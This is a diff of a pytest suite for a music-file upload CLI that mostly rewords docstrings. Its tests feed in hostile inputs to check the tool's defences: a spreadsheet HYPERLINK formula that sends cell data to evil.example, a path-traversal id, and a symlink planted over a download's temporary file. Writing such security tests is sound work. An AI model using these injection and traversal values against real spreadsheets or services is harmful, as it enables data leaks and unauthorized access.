@@ -1,4 +1,4 @@
-"""`ls`, `url`, `get`, `rm`, `edit`, `status`: what is there, by id."""
+"""`ls`, `url`, `get`, `rm`, `edit`, `status`: commands on files by id."""
 
 import csv
 import re
@@ -20,7 +20,7 @@ NO_SUCH = "01ARZ3NDEKTSV4RRFFQ69G5FAV"
 
 
 def sent(moodrop: Command, *arguments: object) -> list[str]:
-    """Upload; return the ids."""
+    """Upload files and return their ids."""
     ran = moodrop("upload", *arguments)
     assert ran.code == 0, ran.err
     return [line.split("\t")[0] for line in ran.lines]
@@ -57,7 +57,7 @@ def test_lists_are_for_people_spreadsheets_and_machines(moodrop: Command, a_file
 
 
 def test_no_cell_of_a_spreadsheet_is_a_formula(moodrop: Command, a_file: AFile) -> None:
-    """A stranger may have chosen it. Machines get it as it is, by --json."""
+    """A stranger may have chosen the text. --json leaves it unchanged."""
     titles = {'=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd", "-2+3", "@SUM(1)", "\uff1d1+1"}
     a_file("a.mp3")
     more = ["--artist", "A-ha", "--album", "B; =1+1", "--tag", "=1", "--filename", "-x.mp3"]
@@ -76,7 +76,7 @@ def test_no_cell_of_a_spreadsheet_is_a_formula(moodrop: Command, a_file: AFile) 
 
 @pytest.mark.parametrize(("seconds", "shown"), [(1, "0:01"), (185, "3:05"), (3723, "1:02:03")])
 def test_a_list_tells_how_long_a_song_is(moodrop: Command, seconds: int, shown: str) -> None:
-    """As the song itself does."""
+    """As read from the song itself."""
     with wave.open(str(moodrop.home / "a.wav"), "wb") as out:
         out.setparams((1, 1, 10, seconds * 10, "NONE", "not compressed"))
         out.writeframes(bytes(seconds * 10))
@@ -86,7 +86,7 @@ def test_a_list_tells_how_long_a_song_is(moodrop: Command, seconds: int, shown: 
 
 
 def test_a_url_needs_no_token(moodrop: Command, a_file: AFile) -> None:
-    """A line for each, in the order of the ids; one that is missing is told on stderr."""
+    """One line per id, in order; missing files are reported on stderr."""
     song, other = a_file("a.mp3"), a_file("b.mp3")
     ids = [*sent(moodrop, "a.mp3"), *sent(moodrop, "b.mp3")]
 
@@ -98,7 +98,7 @@ def test_a_url_needs_no_token(moodrop: Command, a_file: AFile) -> None:
 
 
 def test_a_file_in_the_way_is_kept(moodrop: Command, a_file: AFile) -> None:
-    """The same bytes are there already, and that is well; others are somebody's."""
+    """If it has the same bytes, that counts as success; any other file belongs to somebody."""
     song = a_file("a.mp3")
     (file_id,) = sent(moodrop, "a.mp3")
 
@@ -117,7 +117,7 @@ def test_a_file_in_the_way_is_kept(moodrop: Command, a_file: AFile) -> None:
 
 
 def test_files_of_one_name_are_all_kept(moodrop: Command, a_file: AFile) -> None:
-    """Phones call every picture image.jpg. Each path holds the bytes of its file, and the next run finds them."""
+    """Phones call every picture image.jpg. Each path has its own file's bytes, and the next run finds them."""
     sizes = (3 * MIB, 3 * MIB, 1, 0, 17 * MIB)
     made = [a_file(f"{n}/same.mp3", size) for n, size in enumerate(sizes)] + [a_file("5/SAME.mp3")]
     by_id = {sent(moodrop, path)[0]: path.read_bytes() for path in made}
@@ -145,7 +145,7 @@ def test_a_file_that_is_named_twice_is_fetched_once(moodrop: Command, a_file: AF
 
 
 def test_two_commands_at_once_share_no_file(moodrop: Command, a_file: AFile, line: WeakLine) -> None:
-    """One has the name first; the other is told at once, and may come again."""
+    """One gets the name; the other is refused at once, and may try again."""
     by_id = {sent(moodrop, path)[0]: path for path in (a_file("1/same.mp3", 20 * MIB), a_file("2/same.mp3", 20 * MIB))}
     one, other = by_id
     line.requests.clear()
@@ -167,7 +167,7 @@ def test_two_commands_at_once_share_no_file(moodrop: Command, a_file: AFile, lin
 
 
 def test_what_a_stranger_calls_a_file_runs_nothing_here(moodrop: Command, a_file: AFile) -> None:
-    """In a home folder, say, where a shell reads its profile at the next log-in."""
+    """For example in a home folder, where a shell reads its profile at the next login."""
     a_file("a.mp3")
     (moodrop.home / "precious").write_text("my only copy")
     (moodrop.home / "song.mp3.part").symlink_to("precious")
@@ -195,7 +195,7 @@ def test_where_to_is_a_folder(moodrop: Command, a_file: AFile) -> None:
 
 
 def test_a_full_disk_leaves_nothing_behind(moodrop: Command, a_file: AFile) -> None:
-    """Here a limit on the size of a file; on stdout a device that is always full."""
+    """Simulated by a limit on file size, and on stdout by a device that is always full."""
     a_file("a.mp3", 3 * MIB)
     (file_id,) = sent(moodrop, "a.mp3")
     words = " ".join(moodrop.line("get", file_id, "-o"))
@@ -214,7 +214,7 @@ def test_a_full_disk_leaves_nothing_behind(moodrop: Command, a_file: AFile) -> N
 
 
 def test_a_download_that_is_killed_leaves_no_whole_name(moodrop: Command, a_file: AFile, line: WeakLine) -> None:
-    """And the next one succeeds."""
+    """No partial file has the final name, and the next run succeeds."""
     film = a_file("film.mp4", 40 * MIB)
     (file_id,) = sent(moodrop, "film.mp4")
     line.requests.clear()
@@ -232,7 +232,7 @@ def test_a_download_that_is_killed_leaves_no_whole_name(moodrop: Command, a_file
 
 
 def test_edits_change_what_is_named_and_nothing_else(moodrop: Command, a_file: AFile) -> None:
-    """An empty value removes."""
+    """An empty value removes the field."""
     a_file("a.mp3")
     (file_id,) = sent(moodrop, "a.mp3", "--mood", "sad", "--title", "Old", "--artist", "Moody", "--tag", "x")
 
@@ -246,7 +246,7 @@ def test_edits_change_what_is_named_and_nothing_else(moodrop: Command, a_file: A
 
 
 def test_a_file_gets_another_name(moodrop: Command, a_file: AFile) -> None:
-    """Downloads have it, too; one name is for one file."""
+    """Downloads use the new name; only one file at a time can be renamed."""
     a_file("old.mp3")
     (file_id,) = sent(moodrop, "old.mp3")
 
@@ -266,7 +266,7 @@ BAD_IDS = ["nope", "", "-1", "../../v1/session", "01M8JJ3NS30ZTZ9XZBHXG3FYIL", "
     "command", [["get"], ["get", "-o", "-"], ["url"], ["rm"], ["edit", "--title", "x"], ["status"]], ids=str
 )
 def test_what_is_no_id_is_one_clear_line(moodrop: Command, command: list[str]) -> None:
-    """Never a regular expression, and never an address of another kind."""
+    """It never shows a regular expression, and never calls another address."""
     for bad in BAD_IDS:
         ran = moodrop(*command, *(["--abort", bad] if command == ["status"] else ["--", bad]))
 
@@ -276,7 +276,7 @@ def test_what_is_no_id_is_one_clear_line(moodrop: Command, command: list[str]) -
 
 
 def test_what_is_no_id_stops_no_other(moodrop: Command, a_file: AFile) -> None:
-    """And machines are told as they are of any failure."""
+    """With --json it is reported like any other failure."""
     a_file("a.mp3")
     (file_id,) = sent(moodrop, "a.mp3")
 
@@ -287,7 +287,7 @@ def test_what_is_no_id_stops_no_other(moodrop: Command, a_file: AFile) -> None:
 
 
 def test_a_cover_is_set_and_removed(moodrop: Command, a_file: AFile) -> None:
-    """By itself, or with an edit."""
+    """On its own, or together with an edit."""
     a_file("a.mp3")
     a_file("a.png")
     (file_id,) = sent(moodrop, "a.mp3")
@@ -303,7 +303,7 @@ def test_a_cover_is_set_and_removed(moodrop: Command, a_file: AFile) -> None:
 
 
 def test_what_is_removed_is_gone(moodrop: Command, a_file: AFile) -> None:
-    """Twice is as good as once; what never was is not."""
+    """Removing twice succeeds; an id that never existed fails."""
     a_file("a.mp3")
     (file_id,) = sent(moodrop, "a.mp3")
 
@@ -315,7 +315,7 @@ def test_what_is_removed_is_gone(moodrop: Command, a_file: AFile) -> None:
 
 
 def test_an_unfinished_upload_is_shown_and_may_be_given_up(moodrop: Command, a_file: AFile, line: WeakLine) -> None:
-    """With how much of it is stored."""
+    """With the share that is stored."""
     a_file("film.mp4", 40 * MIB)
     line.hold_after(20 * MIB)
     running = moodrop.start("upload", "film.mp4", "--parallel", 1)
@@ -342,7 +342,7 @@ def test_the_shell_learns_the_commands(anybody: Command, shell: str) -> None:
 
 
 def test_bash_completes(anybody: Command) -> None:
-    """By what the command prints."""
+    """With the script that the command prints."""
     (anybody.home / "bin").mkdir()
     wrapper = anybody.home / "bin" / "moodrop"
     wrapper.write_text(f'#!/bin/sh\nexec {" ".join(anybody.line())} "$@"\n')
